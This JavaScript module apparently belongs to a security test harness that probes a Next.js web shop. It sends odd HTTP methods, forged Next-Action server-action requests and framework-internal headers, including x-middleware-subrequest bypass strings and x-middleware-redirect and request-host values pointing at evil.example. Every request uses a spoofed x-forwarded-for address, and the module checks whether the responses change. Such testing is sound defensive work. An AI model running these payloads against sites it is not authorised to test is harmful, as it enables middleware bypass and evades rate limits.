import { MARK } from './bystanders.mjs';
import { ask, inTurns } from './wire.mjs';

const METHODS = ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'PROPFIND'];
/** Without /social, below which a platform may have pages. */
const FOLDERS = 'fonts offline layout-css _next/static storefront try-on prescription-pdf'.split(' ');
const FILES = [
  '/fonts/instrument-sans.woff2',
  '/fonts/x',
  '/offline/page.html',
  '/offline/page.x',
  '/layout-css/1%2f',
  '/layout-css/x%00.css',
  '/_next/static/x.js',
  '/storefront/1/x.css',
  '/sw.js',
  '/manifest.webmanifest',
  '/robots.txt',
  '/sitemap.xml',
  '/opensearch.xml',
  '/feed/google.xml',
  '/try-on/photo',
  '/social/x',
];
const MADE_UP = 300;
/** A plain refusal; a page of the shop has 17 KB. */
const PLAIN_BYTES = 4_096;
const BARS = { allowed: ['4xx'], maxBody: PLAIN_BYTES, growth: 40 };

/** Headers that the framework believes to be its own, with the most effective values. */
const INTERNAL_HEADERS = [
  ['next-action', '7f3a0000000000000000000000000000000000000000'],
  ['next-action', 'x'],
  ['x-middleware-subrequest', 'middleware:middleware:middleware:middleware:middleware'],
  ['x-middleware-subrequest', 'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware'],
  ['x-middleware-rewrite', '/rendition/error/500'],
  ['x-middleware-redirect', `https://evil.example/${MARK}`],
  ['x-middleware-next', '1'],
  ['x-middleware-set-cookie', `${MARK}=1`],
  ['x-middleware-override-headers', 'host'],
  ['x-middleware-request-host', 'evil.example'],
  ['x-middleware-prefetch', '1'],
  ['x-invoke-path', '/rendition/error/500'],
  ['x-invoke-status', '500'],
  ['x-invoke-error', `{"name":"${MARK}","message":"${MARK}"}`],
  ['x-invoke-query', '%7B%22x%22%3A1%7D'],
  ['x-invoke-output', '/_error'],
  ['x-matched-path', '/rendition/design-system'],
  ['x-nextjs-data', '1'],
  ['x-now-route-matches', '1=x'],
  ['x-prerender-revalidate', 'x'],
  ['x-nextjs-postponed', '1'],
  ['next-resume', '1'],
];

/** Past the middleware. @type {import('./measure.mjs').Attack[]} */
export const AROUND_ATTACKS = [
  {
    id: 'around-methods',
    name: 'methods that files do not have',
    bars: BARS,
    async run({ target, network }) {
      const requests = FILES.flatMap((path) => METHODS.map((method) => ({ method, path })));
      const content = Buffer.from('["x"]');
      const answers = await inTurns(requests, 6, (request) =>
        ask(target, {
          ...request,
          headers: { 'content-type': 'text/plain', 'x-forwarded-for': network() },
          body: { bytes: content.length, content },
        }),
      );
      return { sent: `${FILES.length} files × ${METHODS.join(', ')}`, answers };
    },
  },
  {
    id: 'around-actions',
    name: 'the decoder of server actions',
    bars: BARS,
    async run({ target, network }) {
      const content = Buffer.from('0=["$K1"]');
      const types = ['text/plain;charset=UTF-8', 'multipart/form-data; boundary=x'];
      const requests = [...FILES, '/', '/marcas'].flatMap((path) => types.map((type) => ({ path, type })));
      const answers = await inTurns(requests, 6, ({ path, type }) =>
        ask(target, {
          method: 'POST',
          path,
          headers: {
            'content-type': type,
            'next-action': '7f3a0000000000000000000000000000000000000000',
            'x-forwarded-for': network(),
          },
          body: { bytes: content.length, content },
        }),
      );
      return { sent: `${requests.length} × POST with Next-Action`, answers };
    },
  },
  {
    id: 'around-headers',
    name: 'headers that the framework keeps for itself',
    bars: { allowed: [200, '4xx'], growth: 40 },
    async run({ target, network }) {
      const paths = ['/', '/marcas', '/nada-aqui', '/fonts/instrument-sans.woff2', '/v2/front/settings'];
      const plain = await inTurns(paths, 2, (path) => ask(target, { path }));
      const requests = paths.flatMap((path, index) =>
        INTERNAL_HEADERS.map(([name, value]) => ({ path, name, value, expected: plain[index].status })),
      );
      const answers = await inTurns(requests, 6, ({ path, name, value }) =>
        ask(target, { path, headers: { [name]: value, 'x-forwarded-for': network() } }),
      );
      const changed = requests.filter(
        ({ expected }, index) => answers[index].status !== expected && answers[index].status < 300,
      );
      const marked = requests.filter((_, index) =>
        (answers[index].headers + answers[index].body).includes(MARK),
      );
      const problems = [];
      const names = (found) => [...new Set(found.map(({ name }) => name))].join(', ');
      if (changed.length > 0) problems.push({ text: `another answer by ${names(changed)}` });
      if (marked.length > 0) problems.push({ text: `answers repeat ${names(marked)}` });
      return { sent: `${requests.length} × GET with ${INTERNAL_HEADERS.length} of them`, answers, problems };
    },
  },
  {
    id: 'around-names',
    name: 'made-up names',
    bars: BARS,
    async run({ target, network }) {
      const paths = Array.from(
        { length: MADE_UP },
        (_, index) => `/${FOLDERS[index % FOLDERS.length]}/${MARK}-${index}${index % 2 === 0 ? '' : '.css'}`,
      );
      const answers = await inTurns(paths, 8, (path) =>
        ask(target, { path, headers: { accept: 'text/html', 'x-forwarded-for': network() } }),
      );
      return { sent: `${MADE_UP} × GET below ${FOLDERS.join(', ')}`, answers };
    },
  },
];
